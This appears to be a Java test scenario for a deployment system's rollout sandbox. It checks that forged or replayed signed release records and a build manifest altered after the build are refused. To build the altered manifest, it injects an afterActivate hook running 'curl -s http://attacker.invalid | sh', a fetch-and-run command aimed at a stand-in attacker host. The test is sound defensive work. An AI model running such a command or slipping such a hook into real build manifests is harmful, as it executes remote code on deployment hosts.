package dev.codedeploy.sandbox.scenario;

import com.fasterxml.jackson.databind.JsonNode;
import dev.codedeploy.InvalidInputException;
import dev.codedeploy.build.BuildManifest;
import dev.codedeploy.json.Json;
import dev.codedeploy.queue.Job;
import dev.codedeploy.queue.JobQueue;
import dev.codedeploy.queue.QueueConfig;
import dev.codedeploy.release.HostState;
import dev.codedeploy.release.Release;
import dev.codedeploy.release.SignedRelease;
import dev.codedeploy.release.ZkLayout;
import dev.codedeploy.rollout.RegionSync;
import dev.codedeploy.rollout.RolloutControlPlane;
import dev.codedeploy.rollout.RolloutOutcome;
import dev.codedeploy.sandbox.Result;
import dev.codedeploy.sandbox.cluster.RolloutSandbox;
import dev.codedeploy.sandbox.cluster.Wait;
import dev.codedeploy.testing.SimulatedHost;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import org.apache.curator.framework.CuratorFramework;

/**
 * {@code forged-release}: what a writer of a regional ZooKeeper or of the master bucket could try with validly
 * signed material. (1) A signed record of another environment, with a much higher version, written into this
 * environment's node in one region; (2) an older signed record of this environment replayed into the other region,
 * which a host that has just come up (no state of its own) sees first; (3) a build's manifest altered in the master
 * bucket after the build, adding a hook, then published. No host may act on (1) or (2), region sync must repair
 * both regions, and (3) must be refused by the publisher. The next real release must still reach every host.
 */
public final class ForgedReleaseScenario implements Scenario {

    @Override
    public String name() {
        return "forged-release";
    }

    @Override
    public String description() {
        return "a record of another environment, an old record replayed, a manifest altered after its build: nothing is run";
    }

    @Override
    public Result run(ScenarioContext ctx) throws Exception {
        int perRegion = ctx.intOption("hostsPerRegion", 3);
        try (RolloutSandbox sandbox = RolloutSandbox.forTampering(ctx.workDir())) {
            String env = RolloutSandbox.ENVIRONMENT;
            RolloutControlPlane plane = sandbox.plane();
            List<SimulatedHost> hosts = sandbox.hosts(perRegion);
            long first = sandbox.deployableBuild();
            RolloutOutcome done = sandbox.deploy(first);
            Release current = plane.release(env).orElseThrow();
            ctx.say("build %d on %d hosts: %s (version %d)", first, hosts.size(), done.result(), current.version());

            Map<String, List<Long>> before = new java.util.HashMap<>();
            hosts.forEach(h -> before.put(h.hostId(), h.actedOn()));
            // (1) a record signed for staging, of a build staging runs, in production's node of region eu
            long stagingBuild = sandbox.deployableBuild();
            Release staging = copy(current, "staging", current.version() + 1000, stagingBuild);
            CuratorFramework eu = plane.client("eu");
            byte[] euGood = eu.getData().forPath(ZkLayout.release(env));
            eu.setData().forPath(ZkLayout.release(env), SignedRelease.sign(staging, sandbox.keys().getPrivate(), "sandbox").toBytes());
            ctx.say("wrote a signed staging record (build %d, version %d) into production's node in region eu", stagingBuild, staging.version());

            // (2) the first record of this environment as it was signed two days ago, replayed into region us, and a new host there
            CuratorFramework us = plane.client("us");
            byte[] usGood = us.getData().forPath(ZkLayout.release(env));
            Release old = copy(current, env, 1, first);
            SignedRelease replayed = SignedRelease.sign(old, sandbox.keys().getPrivate(), "sandbox", Instant.now().minus(Duration.ofDays(2)));
            us.setData().forPath(ZkLayout.release(env), replayed.toBytes());
            SimulatedHost fresh = sandbox.host("us", "us-fresh-host", SimulatedHost.Behaviour.HEALTHY);
            ctx.say("replayed version 1, signed two days ago, into region us, and started a host there with no state");

            List<SimulatedHost> euHosts = hosts.stream().filter(h -> h.status().region().equals("eu")).toList();
            boolean refused = Wait.until(Duration.ofSeconds(30), () -> euHosts.stream().allMatch(h -> h.rejectedRecords() >= 1)
                    && fresh.rejectedRecords() >= 1);
            long acted = hosts.stream().filter(h -> !h.actedOn().equals(before.get(h.hostId()))).count() + (fresh.actedOn().isEmpty() ? 0 : 1);
            ctx.say("refused by every eu host and the new us host: %s; hosts that acted on a forged record: %d", refused, acted);

            for (RegionSync sync : plane.regionSyncs()) {
                sync.syncAll();
            }
            boolean repaired = Arrays.equals(euGood, eu.getData().forPath(ZkLayout.release(env)))
                    && Arrays.equals(usGood, us.getData().forPath(ZkLayout.release(env)));
            boolean freshTookCurrent = Wait.until(Duration.ofSeconds(30), () -> fresh.status().state() == HostState.HEALTHY
                    && Long.valueOf(first).equals(fresh.status().currentBuildId()));
            ctx.say("region sync repaired both regions: %s; the new host then took the current record: %s", repaired, freshTookCurrent);

            // (3) a build's manifest altered in the master bucket after the build
            long altered = sandbox.deployableBuild();
            alterManifest(sandbox, altered);
            int publishedAltered = 0;
            String refusal;
            try {
                plane.publish(env, altered, "sandbox", null);
                publishedAltered = 1;
                refusal = "published!";
            } catch (InvalidInputException e) {
                refusal = e.getMessage();
            }
            ctx.say("publishing build %d with a hook added to its manifest after the build: %s", altered, refusal);

            long next = sandbox.deployableBuild();
            RolloutOutcome after = plane.awaitOutcome(env, plane.publish(env, next, "sandbox", null), Duration.ofSeconds(60), null);
            List<SimulatedHost> all = new java.util.ArrayList<>(hosts);
            all.add(fresh);
            boolean allOnNext = Wait.until(Duration.ofSeconds(30), () -> all.stream().allMatch(h -> h.status().state() == HostState.HEALTHY
                    && Long.valueOf(next).equals(h.status().currentBuildId())));
            ctx.say("next build %d: %s, on every host: %s", next, after.result(), allOnNext);
            return Result.scenario(name()).ok(acted == 0 && publishedAltered == 0 && refused && repaired && freshTookCurrent && allOnNext
                            && after.result() == RolloutOutcome.Result.COMPLETED)
                    .put("hosts_acted", acted).put("published_altered", publishedAltered);
        }
    }

    private static Release copy(Release r, String environment, long version, long buildId) {
        return new Release(r.format(), environment, version, buildId, r.sha(), r.repoUrl(), r.artifactKey(), r.torrentKey(),
                r.manifestKey(), r.size(), r.sha256(), r.pieceSize(), r.artifactFormat(), r.fileName(), r.deploy(), r.waves(),
                r.waves().size() - 1, false, false, null, "forger", Instant.now());
    }

    /** Adds an afterActivate hook to the build's manifest in the master bucket, keeping everything else. */
    private static void alterManifest(RolloutSandbox sandbox, long buildId) throws Exception {
        Job job = new JobQueue(sandbox.database(), QueueConfig.DEFAULTS).find(buildId).orElseThrow();
        BuildManifest m = BuildManifest.fromJson(sandbox.masterStore().getBytes(job.manifestKey()), job.manifestKey());
        JsonNode hook = Json.MAPPER.readTree("{\"hooks\": {\"afterActivate\": [\"sh\", \"-c\", \"curl -s http://attacker.invalid | sh\"]}}");
        BuildManifest changed = new BuildManifest(m.version(), m.sha(), m.jobId(), m.attempt(), m.repoUrl(), m.size(), m.sha256(),
                m.pieceSize(), m.format(), m.fileName(), m.createdAt(), m.artifactKey(), m.torrentKey(), m.logKey(), hook);
        sandbox.masterStore().putBytes(job.manifestKey(), changed.toJson(), "application/json", Map.of());
    }
}
